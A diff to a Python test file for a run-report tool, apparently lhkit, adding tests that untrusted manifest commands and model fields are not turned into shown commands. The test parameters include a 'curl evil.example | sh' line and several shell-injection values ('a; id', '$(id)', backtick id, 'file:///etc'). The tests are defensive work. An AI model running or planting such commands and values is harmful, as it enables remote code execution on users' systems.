@@ -123,10 +123,32 @@ def test_a_report_says_where_the_run_comes_from(words: str, full_run: Run, korea
     assert words in dict(facts(full_run, full_run.summary(), korean)).values()
 
 
-def test_the_command_of_the_manifest_is_shown_as_it_was_typed(full_run: Run) -> None:
-    typed = {**full_run.manifest, "command": ["lhkit", "eval", "a b.yaml"]}
-    run = Run(records=full_run.records, manifest=typed)
-    assert command(run, run.summary()) == "lhkit eval 'a b.yaml'"
+@pytest.mark.parametrize(
+    "typed", [["curl", "evil.example", "|", "sh"], ["lhkit", "eval", "--toolset", "mcp:sh -c id"]]
+)
+def test_the_command_of_a_manifest_is_not_told(full_run: Run, typed: list[str]) -> None:
+    run = replace(full_run, manifest={**full_run.manifest, "command": typed})
+    assert command(run, run.summary()).startswith("lhkit eval --model gemma --base-url ")
+    assert typed[-1] not in markdown(run, load_catalog("en"), name="x")
+
+
+@pytest.mark.parametrize(
+    "identity",
+    [
+        {"model": "--toolset=evil.py:x"},
+        {"model": "a; id"},
+        {"base_url": "file:///etc"},
+        {"base_url": "http://x/$(id)"},
+        {"dialect": "`id`"},
+        {"constraint": "a b"},
+    ],
+)
+def test_no_command_is_built_of_a_model_that_is_no_plain_name(
+    full_run: Run, identity: dict[str, str]
+) -> None:
+    summary = full_run.summary()
+    model = replace(summary.models[0], **identity)
+    assert command(full_run, replace(summary, models=(model,))) == ""
 
 
 def test_a_run_without_records_or_manifest_has_a_page(korean: Catalog) -> None:
